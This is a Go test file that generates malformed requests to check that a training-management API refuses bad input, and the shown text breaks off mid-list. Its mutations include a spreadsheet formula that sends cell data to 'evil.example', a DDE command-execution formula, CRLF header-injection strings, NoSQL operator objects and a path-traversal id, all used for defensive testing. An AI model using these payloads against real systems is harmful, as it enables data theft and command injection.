package app_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ctvacademy/academy/modules/app/apptest"
	"github.com/ctvacademy/academy/modules/platform/authz"
	"golang.org/x/net/html"
)

// The corpus is generated: request bodies from the OpenAPI document's
// schemas, forms from the pages' <form> elements. A base value for each
// field comes from its name (baseString); a mutation changes one thing of a
// base request, so that the request is bad for that one reason.

// obj is a JSON object that keeps its keys' order and may repeat a key.
type obj []kv

type kv struct {
	k string
	v any
}

// rawJSON is written into a body as it is: numbers JSON cannot hold in a
// float64, invalid UTF-8.
type rawJSON string

// encode writes a body built of obj, []any, rawJSON and JSON scalars.
func encode(v any) []byte {
	var b bytes.Buffer
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case obj:
			b.WriteByte('{')
			for i, e := range x {
				if i > 0 {
					b.WriteByte(',')
				}
				walk(e.k)
				b.WriteByte(':')
				walk(e.v)
			}
			b.WriteByte('}')
		case []any:
			b.WriteByte('[')
			for i, e := range x {
				if i > 0 {
					b.WriteByte(',')
				}
				walk(e)
			}
			b.WriteByte(']')
		case rawJSON:
			b.WriteString(string(x))
		default:
			var e bytes.Buffer
			enc := json.NewEncoder(&e)
			enc.SetEscapeHTML(false)
			_ = enc.Encode(x)
			b.Write(bytes.TrimRight(e.Bytes(), "\n"))
		}
	}
	walk(v)
	return b.Bytes()
}

// leaf is one field of a base body: its path and schema.
type leaf struct {
	path     string // contract.status, [0].status, collaborator_ids[0]
	name     string // the property's name
	schema   map[string]any
	value    any
	required bool // the object's schema lists it as required
}

// setAt returns a copy of doc with the value at path replaced by fn(old).
func setAt(doc any, path []string, fn func(any) any) any {
	if len(path) == 0 {
		return fn(doc)
	}
	switch x := doc.(type) {
	case obj:
		out := make(obj, len(x))
		copy(out, x)
		for i, e := range out {
			if e.k == path[0] {
				out[i].v = setAt(e.v, path[1:], fn)
			}
		}
		return out
	case []any:
		out := make([]any, len(x))
		copy(out, x)
		i, _ := strconv.Atoi(strings.Trim(path[0], "[]"))
		if i < len(out) {
			out[i] = setAt(out[i], path[1:], fn)
		}
		return out
	}
	return doc
}

// splitPath turns contract.status or [0].status into its steps.
func splitPath(p string) []string {
	var out []string
	for _, part := range strings.Split(strings.ReplaceAll(p, "[", ".["), ".") {
		if part != "" {
			out = append(out, part)
		}
	}
	return out
}

// apiOp is one operation of the OpenAPI document.
type apiOp struct {
	method, path, route string
	query               []string
	required            []string                  // the query parameters the document requires
	querySchema         map[string]map[string]any // query parameter → its schema
	schema              map[string]any
	upload              bool
}

// apiDoc is the part of the served OpenAPI document the tests read: per
// path and method, the parameters and the request body's schemas.
type apiDoc struct {
	Paths map[string]map[string]struct {
		Parameters []struct {
			Name     string         `json:"name"`
			In       string         `json:"in"`
			Required bool           `json:"required"`
			Schema   map[string]any `json:"schema"`
		} `json:"parameters"`
		RequestBody struct {
			Content map[string]struct {
				Schema map[string]any `json:"schema"`
			} `json:"content"`
		} `json:"requestBody"`
	} `json:"paths"`
}

// apiDocument reads the OpenAPI document s serves.
func apiDocument(t testing.TB, s *apptest.Server) apiDoc {
	t.Helper()
	var doc apiDoc
	s.Do(t, "GET", "/api/openapi.json", "", nil).JSON(t, &doc)
	return doc
}

func (w *world) operations() []apiOp {
	w.t.Helper()
	doc := apiDocument(w.t, w.s)
	var ops []apiOp
	for path, methods := range doc.Paths {
		for method, o := range methods {
			op := apiOp{method: strings.ToUpper(method), path: path,
				route: strings.NewReplacer("{", ":", "}", "").Replace(path), querySchema: map[string]map[string]any{}}
			for _, p := range o.Parameters {
				if p.In == "query" {
					op.query = append(op.query, p.Name)
					op.querySchema[p.Name] = p.Schema
					if p.Required {
						op.required = append(op.required, p.Name)
					}
				}
			}
			if c, ok := o.RequestBody.Content["application/json"]; ok {
				op.schema = c.Schema
			}
			_, op.upload = o.RequestBody.Content["multipart/form-data"]
			ops = append(ops, op)
		}
	}
	sort.Slice(ops, func(i, j int) bool { return ops[i].path+ops[i].method < ops[j].path+ops[j].method })
	if len(ops) < 30 {
		w.t.Fatalf("the OpenAPI document lists %d operations", len(ops))
	}
	return ops
}

// rolesFor lists who sends an operation's corpus: nobody signed in for a
// public route; else a coordinator (an admin where only admins may), and a
// CTV where a CTV may.
func (w *world) rolesFor(route, method string) []string {
	if ok, _ := w.enf.Decide(authz.RoleAnonymous, route, method); ok {
		return []string{""}
	}
	var out []string
	for _, r := range []string{authz.RoleCoordinator, authz.RoleAdmin} {
		if ok, _ := w.enf.Decide(r, route, method); ok {
			out = append(out, r)
			break
		}
	}
	if ok, _ := w.enf.Decide(authz.RoleCTV, route, method); ok {
		out = append(out, authz.RoleCTV)
	}
	return out
}

// base builds a valid value for a schema, field by field from the names.
func (w *world) base(s map[string]any, name, route, role string) any {
	switch s["type"] {
	case "object":
		props, _ := s["properties"].(map[string]any)
		if props == nil {
			if name == "answers" {
				q := w.questions[0]
				return obj{{q.ID, []any{q.Options[0]}}}
			}
			return obj{}
		}
		keys := make([]string, 0, len(props))
		for k := range props {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		var o obj
		for _, k := range keys {
			ps, _ := props[k].(map[string]any)
			if role == authz.RoleCTV && strings.HasPrefix(route, "/api/v1/collaborators/") && staffOnly[k] {
				continue
			}
			if role == authz.RoleCTV && strings.HasPrefix(route, "/api/v1/performance/") && k == "targets" {
				continue // a coordinator's field
			}
			if isAlternative(route, k) {
				continue
			}
			o = append(o, kv{k, w.base(ps, k, route, role)})
		}
		return o
	case "array":
		items, _ := s["items"].(map[string]any)
		return []any{w.base(items, strings.TrimSuffix(name, "s"), route, role)}
	case "string":
		if s["format"] == "date-time" {
			start := time.Date(w.clk.Now().Year(), w.clk.Now().Month(), w.clk.Now().Day(), 1, 0, 0, 0, time.UTC).AddDate(0, 0, 40)
			if name == "ends_at" {
				start = start.Add(3 * time.Hour)
			}
			return start.Format(time.RFC3339)
		}
		return w.baseString(name, route)
	case "integer":
		switch name {
		case "capacity":
			return 30
		case "quarterly_stipend":
			return 1500000
		}
		return 1
	case "number":
		return 1.0
	case "boolean":
		return false
	}
	return nil
}

// staffOnly are the collaborator fields a CTV's own PATCH leaves out of its
// base (a CTV may not change them: including them would refuse the base).
var staffOnly = map[string]bool{"code": true, "role": true, "area_code": true, "contract": true, "archived": true, "email": true, "full_name": true}

// baseString is a valid value for a string field, by its name.
func (w *world) baseString(name, route string) string {
	in := func(s string) bool { return strings.Contains(route, s) }
	switch name {
	case "title":
		return "Lớp tập huấn kỹ năng khuyến công"
	case "quarter":
		return "2026-Q3"
	case "location":
		return "Hội trường UBND huyện"
	case "trainer":
		return "Nguyễn Văn Hùng"
	case "course_code":
		return w.course
	case "area_code":
		return w.area
	case "reason":
		return "Trùng lịch họp giao ban"
	case "apply":
		return "this"
	case "code":
		if in("/checkin") {
			return "000000"
		}
		return "BADIN-" + strconv.Itoa(len(route))
	case "full_name":
		return "Trần Thị Bích Ngọc"
	case "email":
		switch {
		case in("/auth/login"):
			return w.ctvEmail
		case in("/users"):
			return "badin.user@example.vn"
		}
		return fmt.Sprintf("badin%d@example.vn", len(route))
	case "password":
		if in("/auth/login") {
			return apptest.DemoPassword
		}
		return "mot-mat-khau-du-dai-1"
	case "current_password":
		return apptest.DemoPassword
	case "new_password":
		return "mat-khau-moi-du-dai-2"
	case "phone":
		return "0912345678"
	case "role":
		if in("/users") && !in("/users/{id}") {
			return authz.RoleLeadership // a new account without a collaborator
		}
		return authz.RoleCTV // a collaborator's, or the CTV's own account kept as it is
	case "commune":
		return "Xã Phước Thiền"
	case "position":
		return "Công chức văn hóa - xã hội"
	case "number":
		return "HD-BADIN-" + strconv.Itoa(len(route)) // a contract number is one person's
	case "starts_on":
		return "2026-01-01"
	case "ends_on":
		return "2027-12-31"
	case "status":
		if in("/attendance") {
			return "present"
		}
		return "active"
	case "collaborator_id":
		if in("/users") {
			return ""
		}
		return w.ctvID
	case "language":
		return "vi"
	case "override_reason":
		return ""
	}
	return ""
}

// leaves lists the fields of a base body.
func leaves(v any, s map[string]any, path, name string) []leaf {
	var out []leaf
	switch x := v.(type) {
	case obj:
		props, _ := s["properties"].(map[string]any)
		for _, e := range x {
			ps, _ := props[e.k].(map[string]any)
			if ps == nil {
				ps = map[string]any{"type": "array", "items": map[string]any{"type": "string"}} // answers: question → options
			}
			req, _ := s["required"].([]any)
			out = append(out, leaf{path: joinKey(path, e.k), name: e.k, schema: ps, value: e.v, required: slices.Contains(req, any(e.k))})
			if _, nested := e.v.(obj); nested {
				out = append(out, leaves(e.v, ps, joinKey(path, e.k), e.k)...)
			}
			if _, nested := e.v.([]any); nested {
				out = append(out, leaves(e.v, ps, joinKey(path, e.k), e.k)...)
			}
		}
	case []any:
		items, _ := s["items"].(map[string]any)
		for i, e := range x {
			p := path + "[" + strconv.Itoa(i) + "]"
			switch e.(type) {
			case obj:
				out = append(out, leaves(e, items, p, name)...)
			default:
				out = append(out, leaf{path: p, name: name, schema: items, value: e})
			}
		}
	}
	return out
}

func joinKey(path, k string) string {
	if path == "" {
		return k
	}
	return path + "." + k
}

// fieldClass says what a string field holds, by its name: an identifier
// or enum value, a formatted value, a password, multi-line text, or a line
// of free text.
func fieldClass(name string) string {
	switch name {
	case "course_code", "area_code", "role", "status", "apply", "language", "collaborator_id", "collaborator_ids", "id":
		return "enum"
	case "code", "email", "phone", "starts_on", "ends_on", "recurrence":
		return "format"
	case "password", "current_password", "new_password":
		return "password"
	case "reason", "override_reason":
		return "multiline"
	}
	return "line"
}

type mutation struct {
	name  string
	value any
}

// malformed are value mutations that make the body malformed JSON: the
// field at fault is the body.
var malformed = map[string]bool{"NaN": true}

const formula = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`

// stringMutations are bad values for a string field of the given class
// whose valid value is base.
func stringMutations(class, base string) []mutation {
	ms := []mutation{
		{"number for a string", 12},
		{"true for a string", true},
		{"object for a string", obj{}},
		{"array for a string", []any{base}},
		{"$gt operator", obj{{"$gt", ""}}},
		{"$ne operator", obj{{"$ne", nil}}},
		{"invalid UTF-8", rawJSON("\"" + base + "\xff\xfe\"")},
		{"lone surrogate escape", rawJSON(`"` + base + `\ud800"`)},
		{"over-long (100,000 characters)", strings.Repeat("Ă", 100000)},
	}
	if class != "password" {
		ms = append(ms,
			mutation{"NUL", base + "\x00"},
			mutation{"ESC sequence", base + "\x1b[31m"},
			mutation{"BEL", base + "\a"},
		)
	}
	if class != "multiline" && class != "password" {
		ms = append(ms,
			mutation{"bare CR", base + "\rATTENDEE:mailto:evil@example.vn\rX-INJ:1"},
			mutation{"CRLF", base + "\r\nBcc: evil@example.vn"},
			mutation{"LF", base + "\nX-INJ: 1"},
		)
	}
	if class == "enum" || class == "format" {
		ms = append(ms,
			mutation{"zero-width space", base + "\u200b"},
			mutation{"zero-width joiner inside", zeroWidthInside(base)},
			mutation{"NFD combining mark", base + "\u0301"},
			mutation{"formula", formula},
			mutation{"@ formula", "@SUM(1+1)*cmd|' /C calc'!A0"},
		)
	}
	if class == "enum" {
		ms = append(ms, mutation{"unknown value", base + "-khong-co"})
	}
	return ms
}

// zeroWidthInside puts a zero-width joiner after the first byte of s.
func zeroWidthInside(s string) string {
	if len(s) < 2 {
		return "\u200b" + s
	}
	return s[:1] + "\u200d" + s[1:]
}

// intMutations are bad values for a number field.
func intMutations() []mutation {
	return []mutation{
		{"string for a number", "30"},
		{"fraction", 1.5},
		{"1e400", rawJSON("1e400")},
		{"2^63", rawJSON("9223372036854775808")},
		{"-2^63-1", rawJSON("-9223372036854775809")},
		{"-1", -1},
		{"2^63-1", rawJSON("9223372036854775807")},
		{"true for a number", true},
		{"$gt operator", obj{{"$gt", 0}}},
		{"NaN", rawJSON("NaN")},
	}
}

// timeMutations are bad values for an RFC 3339 time field.
func timeMutations() []mutation {
	return []mutation{
		{"impossible date 2026-02-30", "2026-02-30T08:00:00+07:00"},
		{"hour 25", "2026-12-07T25:00:00+07:00"},
		{"no offset", "2026-12-07T08:00:00"},
		{"date only", "2026-12-07"},
		{"year 0001", "0001-01-01T08:00:00+07:00"},
		{"year 9999", "9999-12-31T08:00:00+07:00"},
		{"offset +25:00", "2026-12-07T08:00:00+25:00"},
		{"number for a time", 1765090800},
		{"empty", ""},
		{"words", "thứ hai tuần sau"},
		{"$gt operator", obj{{"$gt", ""}}},
		{"invalid UTF-8", rawJSON("\"2026-12-07T08:00:00+07:00\xff\"")},
	}
}

// dateStringMutations are bad values for a YYYY-MM-DD field.
func dateStringMutations() []mutation {
	return []mutation{
		{"impossible date 2026-02-30", "2026-02-30"},
		{"month 13", "2026-13-01"},
		{"year 0001", "0001-01-01"},
		{"year 9999", "9999-12-31"},
		{"time in a date", "2026-12-07T08:00:00+07:00"},
	}
}

// apiProbes generates the API part of the corpus.
func (w *world) apiProbes() []probe {
	var out []probe
	w.ops = w.operations()
	for _, op := range w.ops {
		for _, role := range w.rolesFor(op.route, op.method) {
			out = append(out, w.opProbes(op, role)...)
		}
	}
	return out
}

func (w *world) opProbes(op apiOp, role string) []probe {
	route := op.method + " " + op.path
	path := w.fill(op.route, op.method)
	// A request that, accepted, would end what the corpus aims at (the
	// session, the attempt, the sign-in) runs after the others.
	ends := strings.HasSuffix(op.path, "/auth/logout") || strings.HasSuffix(op.path, "/submit") || strings.HasSuffix(op.path, "/cancel")
	mk := func(mut string) probe {
		return probe{route: route, mut: mut, role: role, method: op.method, path: path, refuse: true, last: ends}
	}
	var out []probe
	var baseBody []byte
	var base any
	if op.schema != nil {
		base = w.base(op.schema, "", op.path, role)
		baseBody = encode(base)
	}
	withJSON := func(p probe, body []byte, field string) probe {
		p.body, p.ctype, p.field = body, "application/json", field
		return p
	}

	// The path's ids.
	if strings.Contains(op.route, ":") {
		for _, bad := range []struct{ name, v string }{
			{"$ne in the id", "%24ne"}, {"operator object in the id", "%7B%22%24gt%22%3A%22%22%7D"}, {"NUL in the id", "a%00b"},
			{"invalid UTF-8 in the id", "%FF%FE"}, {"CRLF in the id", "x%0D%0ASet-Cookie:%20a=b"}, {"NFD in the id", "Tha%CC%82n"},
			{"2,000-character id", strings.Repeat("a", 2000)}, {"traversal in the id", "..%2F..%2Fapi%2Fv1%2Fusers"},
		} {
			i := strings.LastIndex(op.route, ":")
			prefix := w.fill(op.route[:i], op.method)
			rest := op.route[i:]
			if j := strings.Index(rest, "/"); j >= 0 {
				rest = rest[j:]
			} else {
				rest = ""
			}
			p := mk(bad.name)
			p.path = prefix + bad.v + w.fill(rest, op.method)
			if baseBody != nil {
				p = withJSON(p, baseBody, "")
			}
			out = append(out, p)
		}
	}

	// The query. A probe of one parameter carries the document's required
	// ones (but the one probed) with valid values, so that its answer is
	// about the one probed; leaving out a required one is a probe too.
	queryPath := func(probed, bad string) string {
		vals := []string{}
		for _, r := range op.required {
			if r != probed {
				vals = append(vals, r+"="+url.QueryEscape(w.baseString(r, op.path)))
			}
		}
		if bad != "" {
			vals = append(vals, bad)
		}
		if len(vals) == 0 {
			return path
		}
		return path + "?" + strings.Join(vals, "&")
	}
	for _, r := range op.required {
		p := mk("required query " + r + " left out")
		p.path, p.field = queryPath(r, ""), r
		if baseBody != nil {
			p.body, p.ctype = baseBody, "application/json"
		}
		out = append(out, p)
	}
	queries := op.query
	for _, q := range append([]string{""}, queries...) {
		if q == "" {
			for _, bad := range []string{"$where=1", "x[$ne]=1", "filter[$gt]=", "%24where=this.a"} {
				p := mk("query " + bad)
				p.path = queryPath("", bad)
				p.field = strings.SplitN(bad, "=", 2)[0]
				if strings.HasPrefix(p.field, "%24") {
					p.field = "$" + strings.TrimPrefix(p.field, "%24")
				}
				if baseBody != nil {
					p.body, p.ctype = baseBody, "application/json"
				}
				out = append(out, p)
			}
			continue
		}
		for _, bad := range []string{q + "[$ne]=x", q + "[$gt]=", q + "[$regex]=.*", q + "[]=a"} {
			p := mk("query " + bad)
			p.path = queryPath(q, bad)
			p.field = strings.SplitN(bad, "=", 2)[0]
			out = append(out, p)
		}
		for _, bad := range queryValueMutations(q, op.querySchema[q]) {
			p := mk("query " + q + "=" + bad.v)
			p.path = queryPath(q, q+"="+bad.v)
			p.field = q
			if !bad.refuse {
				p.refuse, p.field, p.why = false, "", "a filter value that names nothing matches nothing: an empty list, not an error"
			}
			if baseBody != nil {
				p.body, p.ctype = baseBody, "application/json"
			}
			out = append(out, p)
		}
	}

	// A POST without a body, with the session in a cookie and a body of
	// another type (defect 10: cookie-authenticated API calls must be JSON).
	if op.method != "GET" && op.schema == nil && !op.upload && role != "" && role != authz.RoleCTV {
		p := mk("cookie session, text/plain body")
		p.cookie, p.ctype, p.body = true, "text/plain", []byte("x=1")
		p.last = true
		out = append(out, p)
		p = mk("cookie session, form body")
		p.cookie, p.ctype, p.body = true, "application/x-www-form-urlencoded", []byte("x=1")
		p.last = true
		out = append(out, p)
	}

	if op.upload && op.path == "/api/v1/performance/import" {
		out = append(out, w.performanceUploadProbes(mk)...)
	} else if op.upload {
		out = append(out, w.uploadProbes(mk)...)
	}
	if op.schema == nil {
		return out
	}

	if !op.upload {
		control := mk("base, unmutated")
		control.body, control.ctype, control.refuse = baseBody, "application/json", false
		w.bases = append(w.bases, control)
	}

	// The body as a whole.
	half := baseBody[:len(baseBody)/2]
	for _, b := range []struct {
		name, field string
		body        []byte
	}{
		{"empty body", "body", nil},
		{"whitespace body", "body", []byte("  \n ")},
		{"truncated JSON", "body", half},
		{"duplicated JSON", "body", append(append([]byte{}, baseBody...), baseBody...)},
		{"trailing garbage", "body", append(append([]byte{}, baseBody...), " x"...)},
		{"BOM before JSON", "body", append([]byte("\xef\xbb\xbf"), baseBody...)},
		{"JSON string", "body", []byte(`"x"`)},
		{"JSON number", "body", []byte(`12`)},
		{"JSON true", "body", []byte(`true`)},
		{"JSON null", "", []byte(`null`)},
		{"wrapped in an array", "body", append(append([]byte("["), baseBody...), ']')},
		{"wrapped in an object", wrappedField(base), append(append([]byte(`{"data":`), baseBody...), '}')},
		{"single quotes", "body", bytes.ReplaceAll(baseBody, []byte(`"`), []byte(`'`))},
		{"comment", "body", append([]byte("/* x */"), baseBody...)},
		{"deep nesting", "body", []byte(strings.Repeat("[", 10000) + strings.Repeat("]", 10000))},
		{"invalid UTF-8 outside strings", "body", append([]byte("\xff"), baseBody...)},
	} {
		if why, optional := optionalBody[route]; optional && (b.name == "empty body" || b.name == "whitespace body" || b.name == "JSON null") {
			w.leftOut[why]++
			continue
		}
		out = append(out, withJSON(mk(b.name), b.body, b.field))
	}
	if _, isObj := base.(obj); isObj {
		out = append(out, withJSON(mk("an array for the object"), []byte(`[]`), "body"))
	} else {
		out = append(out, withJSON(mk("an object for the array"), []byte(`{}`), "body"))
	}
	// Over 1 MiB: a base whose first string field is long.
	big := w.oversize(base)
	out = append(out, withJSON(mk("over 1 MiB"), big, ""))
	// Content types.
	// multipart/form-data: fasthttp reads a multipart body before routing,
	// and a body that is not one is refused before the API's error path
	// knows the route (see hints).
	for _, ct := range []string{"", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
		"application/jsonx", "application/json-patch+json", "text/json"} {
		p := mk("Content-Type " + strconv.Quote(ct))
		p.body, p.ctype = baseBody, ct
		out = append(out, p)
	}
	p := mk("cookie session, text/plain")
	p.cookie, p.body, p.ctype = true, baseBody, "text/plain"
	if role == authz.RoleCoordinator {
		out = append(out, p)
	}

	// Keys.
	if o, isObj := base.(obj); isObj {
		out = append(out,
			withJSON(mk("unknown field"), encode(append(append(obj{}, o...), kv{"x_unknown", 1})), "x_unknown"),
			withJSON(mk("$set key"), encode(append(obj{{"$set", o}}, o...)), "$set"),
			withJSON(mk("$where key"), encode(append(append(obj{}, o...), kv{"$where", "1"})), "$where"),
		)
	}
	out = append(out, w.fieldProbes(base, op.schema, mk, withJSON)...)
	for _, k := range alternatives[route] {
		alt := obj{{k, w.baseString(k, "")}}
		out = append(out, w.fieldProbes(alt, op.schema, mk, withJSON)...)
	}
	return out
}

// fieldProbes are the key and value mutations of every field of base.
func (w *world) fieldProbes(base any, schema map[string]any, mk func(string) probe, withJSON func(probe, []byte, string) probe) []probe {
	var out []probe
	for _, l := range leaves(base, schema, "", "") {
		segs := splitPath(l.path)
		last := segs[len(segs)-1]
		if !strings.HasPrefix(last, "[") && l.name != "" {
			parent := segs[:len(segs)-1]
			for _, variant := range caseVariants(last) {
				doc := renameAt(base, parent, last, variant)
				out = append(out, withJSON(mk("case variant "+variant), encode(doc), joinKey(strings.Join(parent, "."), variant)))
			}
			doc := dupAt(base, parent, last)
			out = append(out, withJSON(mk("duplicate key "+l.path), encode(doc), strings.ReplaceAll(l.path, ".[", "[")))
			if l.required {
				out = append(out, withJSON(mk("required "+l.path+" left out"), encode(dropAt(base, parent, last)), l.path))
				if _, isString := l.value.(string); isString {
					doc := setAt(base, splitPath(l.path), func(any) any { return "" })
					out = append(out, withJSON(mk("required "+l.path+" empty"), encode(doc), l.path))
				}
			}
		}
		field := strings.ReplaceAll(l.path, ".[", "[")
		for _, m := range w.valueMutations(l) {
			if why, accepted := acceptedValue(field, m.name); accepted {
				w.leftOut[why]++
				continue
			}
			doc := setAt(base, segs, func(any) any { return m.value })
			want := field
			if malformed[m.name] {
				want = "body"
			}
			out = append(out, withJSON(mk(field+": "+m.name), encode(doc), want))
		}
	}
	return out
}

// acceptedValue says whether a field takes a mutation by design, and why.
func acceptedValue(field, mut string) (string, bool) {
	for k, why := range acceptedValues {
		prefix, name, _ := strings.Cut(k, ": ")
		if strings.HasPrefix(field, prefix) && name == mut {
			return why, true
		}
	}
	return "", false
}

// wrappedField is the field a 400 names for {"data": base}: the unknown
// key of an object body, the body itself where an array is due.
func wrappedField(base any) string {
	if _, isObj := base.(obj); isObj {
		return "data"
	}
	return "body"
}

// optionalBody are routes whose body may be left out, and why.
var optionalBody = map[string]string{
	"POST /api/v1/attempts/{id}/submit": "a submit without a body submits the saved answers",
}

// acceptedValues are value mutations a field takes by design, and why.
var acceptedValues = map[string]string{
	"answers.: empty array":  "an empty list of options clears a question's answer",
	"answers.: 10,001 items": "an option sent again is the same choice (a form may send a checkbox twice): repeats are dropped",
}

// alternatives are bodies that name one of several keys: each key gets a
// base of its own, the first from the schema's base.
var alternatives = map[string][]string{
	"POST /api/v1/sessions/{id}/invitations": {"area_code", "role"},
}

func isAlternative(path, k string) bool {
	for r, keys := range alternatives {
		if strings.HasSuffix(r, " "+path) {
			for _, a := range keys {
				if a == k {
					return true
				}
			}
		}
	}
	return false
}

// valueMutations are the bad values for one field of a body.
func (w *world) valueMutations(l leaf) []mutation {
	switch l.schema["type"] {
	case "string":
		if l.schema["format"] == "date-time" {
			return timeMutations()
		}
		base, _ := l.value.(string)
		class := fieldClass(l.name)
		if _, isEnum := l.schema["enum"]; isEnum {
			class = "enum" // the document says which values there are
		}
		if class == "line" || class == "multiline" {
			// Human text takes these, by design: they are not sent.
			w.leftOut["NFD and zero-width characters in human text (names, titles, places) are normalised to NFC without them, not refused"] += 3
			w.leftOut["a formula in human text is kept as typed and neutralised where it is exported (CSV)"] += 2
		}
		ms := stringMutations(class, base)
		if l.name == "starts_on" || l.name == "ends_on" || l.schema["format"] == "date" {
			ms = append(ms, dateStringMutations()...)
		}
		return ms
	case "integer", "number":
		return intMutations()
	case "boolean":
		return []mutation{{"string for a bool", "true"}, {"number for a bool", 0}, {"$ne operator", obj{{"$ne", false}}}, {"null-ish string", "null"}}
	case "array":
		return []mutation{{"object for an array", obj{}}, {"string for an array", "x"}, {"empty array", []any{}},
			{"10,001 items", manyItems(l.value, 10001)}, {"null items", []any{nil}}}
	case "object":
		return []mutation{{"array for an object", []any{}}, {"string for an object", "x"}, {"number for an object", 1}}
	}
	return nil
}

func manyItems(v any, n int) []any {
	arr, _ := v.([]any)
	var first any = "x"
	if len(arr) > 0 {
		first = arr[0]
	}
	out := make([]any, n)
	for i := range out {
		out[i] = first
	}
	return out
}

// caseVariants are spellings of a key that differ only in case.
func caseVariants(k string) []string {
	var out []string
	if up := strings.ToUpper(k[:1]) + k[1:]; up != k {
		out = append(out, up)
	}
	if all := strings.ToUpper(k); all != k && len(k) > 1 {
		out = append(out, all)
	}
	return out
}

// renameAt renames the key old of the object at parent.
func renameAt(doc any, parent []string, old, name string) any {
	return setAt(doc, parent, func(v any) any {
		o, _ := v.(obj)
		out := make(obj, len(o))
		for i, e := range o {
			if e.k == old {
				e.k = name
			}
			out[i] = e
		}
		return out
	})
}

// dropAt removes the key k of the object at parent.
func dropAt(doc any, parent []string, k string) any {
	return setAt(doc, parent, func(v any) any {
		o, _ := v.(obj)
		var out obj
		for _, e := range o {
			if e.k != k {
				out = append(out, e)
			}
		}
		return out
	})
}

// dupAt repeats the key k of the object at parent, first with another
// value of the same type, then with the base's.
func dupAt(doc any, parent []string, k string) any {
	return setAt(doc, parent, func(v any) any {
		o, _ := v.(obj)
		var out obj
		for _, e := range o {
			if e.k == k {
				out = append(out, kv{k, otherValue(e.v)})
			}
			out = append(out, e)
		}
		return out
	})
}

func otherValue(v any) any {
	switch x := v.(type) {
	case string:
		return x + "-khac"
	case int:
		return x + 1
	case bool:
		return !x
	}
	return v
}

// oversize returns the base body with its first string padded past 1 MiB.
func (w *world) oversize(base any) []byte {
	pad := strings.Repeat("a", 1<<20+10)
	done := false
	var walk func(v any) any
	walk = func(v any) any {
		switch x := v.(type) {
		case obj:
			out := make(obj, len(x))
			for i, e := range x {
				out[i] = kv{e.k, walk(e.v)}
			}
			return out
		case []any:
			out := make([]any, len(x))
			for i, e := range x {
				out[i] = walk(e)
			}
			return out
		case string:
			if !done {
				done = true
				return x + pad
			}
		}
		return v
	}
	b := encode(walk(base))
	if !done {
		b = append(bytes.TrimSuffix(b, []byte("}")), []byte(`,"pad":"`+pad+`"}`)...)
	}
	return b
}

type queryBad struct {
	v      string
	refuse bool
}

// queryValueMutations are bad values of a query parameter. Those of a
// parameter whose schema bounds it (an enum, a boolean, an integer with a
// range) must be refused, as must bad times of from, to and week (the
// schema says only "string" of those); any other value is a filter that may
// match nothing.
func queryValueMutations(q string, schema map[string]any) []queryBad {
	free := []queryBad{{"%FF%FE", false}, {"a%00b", false}, {"x%0D%0Ay", false}, {"%3DHYPERLINK(1)", false}, {strings.Repeat("a", 1000), false}}
	switch q {
	case "from", "to":
		return []queryBad{{"2026-02-30", true}, {"2026-13-01", true}, {"now", true}, {"2026-12-07T08:00:00", true}, {"%FF", true}, {"1765090800", true}}
	case "week":
		return []queryBad{{"2026-W99", true}, {"2026-W00", true}, {"2026W01", true}, {"0001-W01", true}, {"x%00", true}}
	}
	if enum, ok := schema["enum"].([]any); ok && len(enum) > 0 {
		first := url.QueryEscape(fmt.Sprint(enum[0]))
		return []queryBad{{"bogus", true}, {first + "%00", true}, {first + "%E2%80%8B", true}, {first + "%CC%81", true},
			{first + "%0D%0A", true}, {strings.ToUpper(first) + "X", true}, {"%3DHYPERLINK(1)", true}, {"%FF", true}}
	}
	switch schema["type"] {
	case "boolean":
		return []queryBad{{"maybe", true}, {"2", true}, {"true%00", true}, {"%FF", true}}
	case "integer":
		bad := []queryBad{{"1e400", true}, {"9223372036854775808", true}, {"abc", true}, {"1.5", true}, {"0x10", true}, {"%FF", true}, {"1%00", true}}
		if lo, ok := schema["minimum"].(float64); ok {
			bad = append(bad, queryBad{strconv.Itoa(int(lo) - 1), true})
		}
		if hi, ok := schema["maximum"].(float64); ok {
			bad = append(bad, queryBad{strconv.Itoa(int(hi) + 1), true})
		}
		return bad
	}
	return free
}

// uploadProbes are bad imports: the file, its form and its rows.
func (w *world) uploadProbes(mk func(string) probe) []probe {
	header := "Mã CTV,Họ và tên,Email,Số điện thoại,Vai trò,Mã đơn vị,Xã/Phường,Số hợp đồng,Ngày bắt đầu,Ngày kết thúc,Trạng thái HĐ,Thù lao quý\n"
	row := func(code, name, email, phone, role, area, start, end, status, money string) string {
		return strings.Join([]string{code, name, email, phone, role, area, "Xã Phước Thiền", "HD-" + code, start, end, status, money}, ",") + "\n"
	}
	good := row("BADIN-IMP", "Lê Văn Tám", "badin.imp@example.vn", "0912345679", "ctv", w.area, "01/01/2026", "31/12/2027", "active", "1.500.000")
	var out []probe
	file := func(name, fieldName, filename string, data []byte) probe {
		p := mk(name)
		p.body, p.ctype = apptest.Multipart(w.t, fieldName, filename, data, nil)
		return p
	}
	for _, c := range []struct {
		name, field, fname string
		data               string
		want               string
	}{
		{"no file field", "upload", "a.csv", header + good, "file"},
		{"empty file", "file", "a.csv", "", "file"},
		{"header only", "file", "a.csv", header, "file"},
		{"unknown column", "file", "a.csv", strings.Replace(header, "Email", "Thư", 1) + good, "file.header"},
		{"missing column", "file", "a.csv", strings.Replace(header, ",Thù lao quý", "", 1) + good, "file.header"},
		{"column twice", "file", "a.csv", strings.Replace(header, "Vai trò", "Email", 1) + good, "file.header"},
		{"invalid UTF-8", "file", "a.csv", header + strings.Replace(good, "Tám", "T\xe1m", 1), "file"},
		{"UTF-16 file", "file", "a.csv", "\xff\xfeM\x00", "file"},
		{"bad quotes", "file", "a.csv", header + `"BADIN,"x` + "\n", "file"},
		{"not a workbook", "file", "a.xlsx", "PK\x03\x04 not a zip at all", "file"},
		{"impossible date", "file", "a.csv", header + row("BADIN-IMP", "Lê Văn Tám", "badin.imp@example.vn", "0912345679", "ctv", w.area, "30/02/2026", "31/12/2027", "active", "1500000"), "rows[2].contract.starts_on"},
		{"year 9999", "file", "a.csv", header + row("BADIN-IMP", "Lê Văn Tám", "badin.imp@example.vn", "0912345679", "ctv", w.area, "01/01/2026", "31/12/9999", "active", "1500000"), "rows[2].contract.ends_on"},
